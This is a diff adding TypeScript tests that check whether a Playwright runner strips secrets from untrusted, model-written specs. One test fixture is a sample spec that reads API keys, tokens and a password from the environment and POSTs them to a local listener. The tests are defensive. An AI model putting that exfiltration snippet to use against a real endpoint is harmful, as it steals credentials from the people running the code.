@@ -293,3 +293,57 @@ async function waitForJson<T>(file: string): Promise<T> {
   }
   throw new Error(`${file} never appeared`);
 }
+
+describe('an untrusted run (model-written code)', () => {
+  /** A listener on 127.0.0.1 that records what each request carried. */
+  async function listener() {
+    const { createServer } = await import('node:http');
+    const seen: string[] = [];
+    const server = createServer((req, res) => {
+      let body = '';
+      req.on('data', (chunk) => (body += chunk));
+      req.on('end', () => {
+        seen.push(`${req.url} ${body}`);
+        res.end('ok');
+      });
+    });
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as import('node:net').AddressInfo;
+    return { url: `http://127.0.0.1:${port}`, seen, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
+  }
+
+  // What the gate refuses before any run; here run directly, to show what the containment alone does.
+  const exfiltrate = (sink: string) =>
+    spec(`  const loot = JSON.stringify({ key: process.env.OPENAI_API_KEY ?? null, token: process.env.SCRIBE_API_TOKEN ?? null, password: process.env.E2E_PASSWORD ?? null, home: process.env.HOME });
+  await page.request.post(${JSON.stringify(sink)}, { data: loot });
+  await page.goto('/');
+  await expect(page.getByTestId('title')).toHaveText('Welcome');`);
+
+  it('hands Playwright no secret of the caller: only the declared variables, BASE_URL, and a HOME in the run folder', async () => {
+    const sink = await listener();
+    try {
+      const env = { ...process.env, OPENAI_API_KEY: 'sk-secret-model-key', SCRIBE_API_TOKEN: 'server-token', E2E_PASSWORD: 'declared-password' };
+      const report = await run(exfiltrate(sink.url), { env, untrusted: true, allowedEnv: ['BASE_URL', 'E2E_USERNAME', 'E2E_PASSWORD'] });
+      expect(report.error_message).toBeNull();
+      expect(report.status).toBe('pass');
+      expect(sink.seen).toHaveLength(1);
+      const loot = JSON.parse(sink.seen[0]!.slice(sink.seen[0]!.indexOf(' ') + 1)) as Record<string, string | null>;
+      expect(loot).toMatchObject({ key: null, token: null, password: 'declared-password' });
+      expect(loot.home).toContain(path.join('.scribe', 'tmp', 'run-'));
+      expect(sink.seen.join('\n')).not.toContain('sk-secret-model-key');
+    } finally {
+      await sink.close();
+    }
+  });
+
+  it('a trusted run (the user’s own spec) keeps the caller’s environment', async () => {
+    const sink = await listener();
+    try {
+      const report = await run(exfiltrate(sink.url), { env: { ...process.env, OPENAI_API_KEY: 'sk-users-own' } });
+      expect(report.status).toBe('pass');
+      expect(sink.seen[0]).toContain('sk-users-own');
+    } finally {
+      await sink.close();
+    }
+  });
+});
